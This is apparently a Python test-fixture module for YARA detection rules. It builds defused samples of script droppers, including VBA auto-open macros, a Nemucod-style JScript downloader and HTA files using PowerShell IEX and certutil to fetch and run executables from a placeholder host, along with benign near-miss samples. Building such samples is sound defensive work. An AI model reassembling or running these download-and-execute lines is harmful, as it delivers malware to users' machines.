"""Inert samples and near-misses for signatures/rules/script_droppers.yar.

Macro samples are VBA source whose auto-run procedure exits first (``Exit Sub``) and whose other
statements sit in a procedure nothing calls; the JScript and HTA samples quit before the indicator
lines (``WScript.Quit()``, ``self.close()`` first). URLs point at the documentation address only.
"""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, split, text

B64 = "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAA="


def vba_download() -> dict[str, bytes]:
    return {
        "macro-download-execute-bas": text(
            'Attribute VB_Name = "ThisDocument"',
            f"' {INERT_NOTE}",
            split("Sub Document", "_Open()"),
            "    Exit Sub",
            "End Sub",
            "Private Sub NeverCalled()",
            split('    Set x = CreateObject("MSXML2.', 'XMLHTTP")'),
            f'    x.Open "GET", "http://{HOST}/inv.exe", False',
            split('    Set s = CreateObject("ADODB.', 'Stream")'),
            "    s.Write x.responseBody",
            split("    s.SaveTo", 'File Environ("TEMP") & "\\inv.exe", 2'),
            split('    CreateObject("WScript.', 'Shell").Run Environ("TEMP") & "\\inv.exe"'),
            "End Sub",
        )
    }


def vba_powershell() -> dict[str, bytes]:
    return {
        "macro-hidden-powershell-bas": text(
            'Attribute VB_Name = "Module1"',
            f"' {INERT_NOTE}",
            split("Sub Auto", "Open()"),
            "    Exit Sub",
            split('    Shell("power', "shell.exe -nop -w hidden -enc ", B64, '")'),
            "End Sub",
        )
    }


def nemucod() -> dict[str, bytes]:
    return {
        "nemucod-downloader-js": text(
            f"WScript.Quit(); // {INERT_NOTE}",
            split("var x = new ActiveX", 'Object("MSXML2.XMLHTTP");'),
            split("var s = new ActiveX", 'Object("ADODB.Stream");'),
            split("var sh = WScript.Create", 'Object("WScript.Shell");'),
            'var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\a1.exe";',
            f'x.open("GET", "http://{HOST}/counter/?id=1", false); x.send();',
            split("s.open(); s.type = 1; s.write(x.responseBody); s.SaveTo", "File(p, 2);"),
            split("sh.Ru", "n(p, 0);"),
        )
    }


def hta_powershell() -> dict[str, bytes]:
    return {
        "hta-powershell-hta": text(
            "<html><head>",
            split("<HTA:", 'APPLICATION ID="upd" WINDOWSTATE="minimize">'),
            '<script language="VBScript">',
            f"self.close ' {INERT_NOTE}",
            split('Set o = CreateObject("WScript.', 'Shell")'),
            split(
                'o.Run "power',
                "shell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)",
                f".DownloadString('http://{HOST}/a')\", 0",
            ),
            "</script></head></html>",
        )
    }


def hta_lolbin() -> dict[str, bytes]:
    return {
        "hta-certutil-hta": text(
            "<html><head>",
            split("<hta:", 'application id="doc" showintaskbar="no">'),
            "<script>",
            f"window.close(); // {INERT_NOTE}",
            split("var o = new ActiveX", 'Object("WScript.Shell");'),
            split(
                'o.Run("cmd /c certutil',
                f' -urlcache -split -f http://{HOST}/d.exe %TEMP%\\\\d.exe && %TEMP%\\\\d.exe", 0);',
            ),
            "</script></head></html>",
        )
    }


def near_macro() -> dict[str, bytes]:
    return {
        "macro-exchange-rates-bas": text(
            'Attribute VB_Name = "ThisWorkbook"',
            "Private Sub Workbook_Open()",
            '    Dim http: Set http = CreateObject("MSXML2.XMLHTTP")',
            '    http.Open "GET", "https://rates.example.org/eur.json", False',
            "    http.send",
            '    Sheets("Rates").Range("B2").Value = http.responseText',
            '    Application.StatusBar = "Rates updated"',
            '    Shell "notepad.exe " & ThisWorkbook.Path & "\\readme.txt", vbNormalFocus',
            "End Sub",
        )
    }


def near_wsh() -> dict[str, bytes]:
    return {
        "logon-inventory-js": text(
            "// logon script: records the machine inventory on the share",
            'var sh = new ActiveXObject("WScript.Shell");',
            'var fso = new ActiveXObject("Scripting.FileSystemObject");',
            'var tmp = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\inventory.txt";',
            'var x = new ActiveXObject("MSXML2.XMLHTTP");',
            'x.open("POST", "https://inventory.example.org/report", false); x.send(fso.OpenTextFile(tmp).ReadAll());',
            'sh.Run("ipconfig /all > " + tmp, 0, true);',
        )
    }


def near_hta() -> dict[str, bytes]:
    return {
        "admin-tools-hta": text(
            "<html><head><title>Helpdesk tools</title>",
            '<HTA:APPLICATION ID="helpdesk" APPLICATIONNAME="Helpdesk">',
            '<script language="VBScript">',
            "Sub RunIpconfig",
            '    Set o = CreateObject("WScript.Shell")',
            '    o.Run "powershell.exe -NoProfile -Command Get-NetIPConfiguration", 1',
            '    o.Run "certutil -hashfile C:\\tools\\setup.exe SHA256", 1',
            "End Sub",
            "Sub Quit: window.close: End Sub",
            "</script></head></html>",
        )
    }


SAMPLES: Builders = {
    "VBA_AutoOpen_Download_Execute": vba_download,
    "VBA_AutoOpen_Hidden_PowerShell": vba_powershell,
    "Nemucod_JScript_Downloader": nemucod,
    "HTA_PowerShell_Downloader": hta_powershell,
    "HTA_LOLBin_Downloader": hta_lolbin,
}

NEARMISS: Builders = {
    "VBA_AutoOpen_Download_Execute": near_macro,
    "VBA_AutoOpen_Hidden_PowerShell": near_macro,
    "Nemucod_JScript_Downloader": near_wsh,
    "HTA_PowerShell_Downloader": near_hta,
    "HTA_LOLBin_Downloader": near_hta,
}
